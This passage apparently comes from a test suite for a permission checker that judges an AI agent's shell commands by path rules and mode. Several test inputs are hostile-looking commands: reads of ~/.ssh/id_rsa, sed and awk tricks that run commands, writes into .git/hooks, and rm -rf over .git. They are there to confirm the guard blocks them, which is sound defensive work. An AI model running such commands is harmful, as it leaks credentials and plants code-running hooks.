    c('a command substitution in a glob path still asks', 'bypassPermissions', 'Bash', 'cat $(pwd)/*.ts', 'ask'),
    // sed's script is text, not a path, wherever the shell is; its e/w commands and its files are still checked.
    c('sed -i inside .git names .git/config, not its script as a path', 'acceptEdits', 'Bash', 'sed -i s/a/b/ config', 'ask', { cwd: '@WS/.git', rules: { allow: ['Bash(sed:*)'] }, reason: /^(?![\s\S]*\.git\/s\/a)[\s\S]*\.git\/config/ }),
    c('a sed script inside .git is not a protected path', 'default', 'Bash', 'sed -n s/a/b/p HEAD', 'allow', { cwd: '@WS/.git', rules: { allow: ['Bash(sed:*)'] } }),
    c('sed -e and --expression= scripts are not paths either', 'default', 'Bash', 'cd .git && sed -n -e s/a/b/p --expression=s/c/d/p -es/e/f/p HEAD', 'allow', { rules: { allow: ['Bash(sed:*)'] } }),
    c('a sed -f script file is still a path', 'bypassPermissions', 'Bash', 'sed -f .git/hooks/x.sed in.txt', 'ask', { reason: /protected/ }),
    c('a file after the sed script is still a path', 'bypassPermissions', 'Bash', 'sed -n s/a/b/p .git/hooks/pre-commit', 'ask', { reason: /protected/ }),
    c('sed e command still asks under a rule for sed', 'default', 'Bash', "sed -e '1e id' in.txt", 'ask', { rules: { allow: ['Bash(sed:*)'] }, reason: /e command/ }),
    c('sed e command in an abbreviated --expr still asks', 'default', 'Bash', "sed --expr='1e id' in.txt", 'ask', { rules: { allow: ['Bash(sed:*)'] }, reason: /e command/ }),
    c('sed s///w into .git/hooks still asks', 'default', 'Bash', "cd .git && sed 's/x/y/w hooks/pre-commit' HEAD", 'ask', { rules: { allow: ['Bash(sed:*)'] }, reason: /s\/\/\/w/ }),
    c('sed --in (an abbreviated --in-place) writes its files', 'acceptEdits', 'Bash', 'sed --in s/a/b/ @OUT/data.txt', 'ask', { rules: { allow: ['Bash(sed:*)'] }, reason: /outside the workspace/ }),
    c("awk's program and -v values inside .git are not protected paths", 'default', 'Bash', "awk -v dir=hooks/x 'NR%2/1 {print dir}' HEAD", 'allow', { cwd: '@WS/.git', rules: { allow: ['Bash(awk:*)'] } }),
    c('a file after the awk program is still a path', 'bypassPermissions', 'Bash', "awk '{print}' .git/hooks/pre-commit", 'ask', { reason: /protected/ }),
    c('awk system() in an abbreviated --sou still asks', 'default', 'Bash', `awk --sou='BEGIN{system("id")}'`, 'ask', { rules: { allow: ['Bash(awk:*)'] }, reason: /system\(\)/ }),
    // Brace expansion: each word it makes is checked as a path (and glob-expanded), as bash passes them.
    c('brace expansion naming ~/.ssh asks, in bypass too', 'bypassPermissions', 'Bash', 'cat {x,~/.ssh/id_rsa}', 'ask', { reason: /\.ssh.*secrets/ }),
    c('brace expansion naming a Read-denied file is denied', 'bypassPermissions', 'Bash', 'cat {in.txt,secret/key.txt}', 'deny', { rules: { deny: ['Read(secret/**)'] } }),
    c('a quoted brace is one literal file name', 'bypassPermissions', 'Bash', "cat '{in.txt,secret/key.txt}'", 'allow', { rules: { deny: ['Read(secret/**)'] } }),
    c('an escaped brace is one literal file name', 'bypassPermissions', 'Bash', 'cat \\{in.txt,secret/key.txt}', 'allow', { rules: { deny: ['Read(secret/**)'] } }),
    c('ls over a brace of workspace folders is a read-only command', 'default', 'Bash', 'ls {src,test}', 'allow'),
    c('a sequence of workspace files reads them', 'default', 'Bash', 'wc -l globbed/{one,two}.ts src/{a,deep/b}.ts', 'allow'),
    c('a brace of a workspace and an outside file asks', 'default', 'Bash', 'cat {in.txt,@OUT/data.txt}', 'ask', { reason: /outside the workspace/ }),
    c('cp from a brace naming a path outside asks, whatever rule allows cp', 'default', 'Bash', 'cp {src/a.ts,@OUT/b} lib/', 'ask', { rules: { allow: ['Bash(cp:*)'] }, reason: /@OUT\/b.*outside the workspace|outside the workspace/ }),
    c('cp {a,/outside/b} c asks in default mode', 'default', 'Bash', 'cp {src/a.ts,@OUT/b} lib/c.ts', 'ask', { reason: /outside the workspace/ }),
    c('rm -rf over a brace reaching .git/hooks asks in bypass', 'bypassPermissions', 'Bash', 'rm -rf {.git,src}/hooks', 'ask', { reason: /\.git\/hooks.*protected/ }),
    c('rm over a brace inside the workspace in bypass', 'bypassPermissions', 'Bash', 'rm -rf {lib,src/deep}', 'allow'),
    c('a glob inside a brace word is expanded too', 'bypassPermissions', 'Bash', 'cat {globbed,trap}/*.ts', 'ask', { reason: /\.ssh/ }),
    c('more than 1,000 words from braces ask (a read)', 'bypassPermissions', 'Bash', 'cat x{1..1001}', 'ask', { reason: /only known when the command runs/ }),
    c('more than 1,000 words from braces ask (a file utility)', 'bypassPermissions', 'Bash', 'rm x{1..1001}', 'ask', { reason: /only known when the command runs/ }),
    c('more than 1,000 words from braces ask in default under a rule', 'default', 'Bash', 'rm x{1..1001}', 'ask', { rules: { allow: ['Bash(rm:*)'] }, reason: /more than 1,000 words/ }),
    c('a brace word built from a variable stays unknown for a file utility', 'bypassPermissions', 'Bash', 'cp {$X,a} /tmp/', 'ask', { reason: /only known when the command runs/ }),
    c('rm over a glob inside .git asks in bypass', 'bypassPermissions', 'Bash', 'rm -rf .git/*', 'ask', { reason: /\.git\/config.*protected/ }),
    c('rm over a glob inside the workspace in bypass', 'bypassPermissions', 'Bash', 'rm globbed/*.ts', 'allow'),
    c('a redirect to a glob naming a protected file asks', 'bypassPermissions', 'Bash', 'echo x >> .git/conf*', 'ask', { reason: /protected/ }),
    c('a glob reaching a dangling symlink into .git is judged by where it points', 'bypassPermissions', 'Bash', 'echo x > */pre-commit', 'ask', { reason: /\.git\/hooks\/pre-commit.*protected/ }),
    c('a glob after cd is expanded in the folder cd goes to', 'bypassPermissions', 'Bash', 'cd trap && cat *.ts', 'ask', { reason: /\.ssh/ }),
    c('a recursive read over a glob that holds a denied path asks', 'default', 'Bash', 'grep -r foo s*', 'ask', { rules: { deny: ['Read(secret/key.txt)'] }, reason: /deny rule for Read/ }),
    c('a recursive read over a glob away from denied paths', 'default', 'Bash', 'grep -r foo glob*', 'allow', { rules: { deny: ['Read(secret/**)'] } }),
    c('a glob in grep\'s pattern place names files it reads', 'bypassPermissions', 'Bash', 'cd trap && grep *', 'ask', { reason: /\.ssh/ }),
    c('git diff --no-index reads a file outside: ~/.ssh asks, in bypass too', 'bypassPermissions', 'Bash', 'git diff --no-index ~/.ssh/id_rsa /dev/null', 'ask', { reason: /\.ssh.*secrets/ }),
    c('git diff --no-index of a file outside the workspace asks', 'default', 'Bash', 'git diff --no-index @OUT/data.txt in.txt', 'ask', { reason: /outside the workspace/ }),
    c('git diff of revisions and workspace paths runs', 'default', 'Bash', 'git diff HEAD~1..HEAD -- src/a.ts lib', 'allow'),
    c('git grep --no-index over a folder outside asks', 'default', 'Bash', 'git grep --no-index secret @OUT', 'ask', { reason: /outside the workspace/ }),
  ];
}
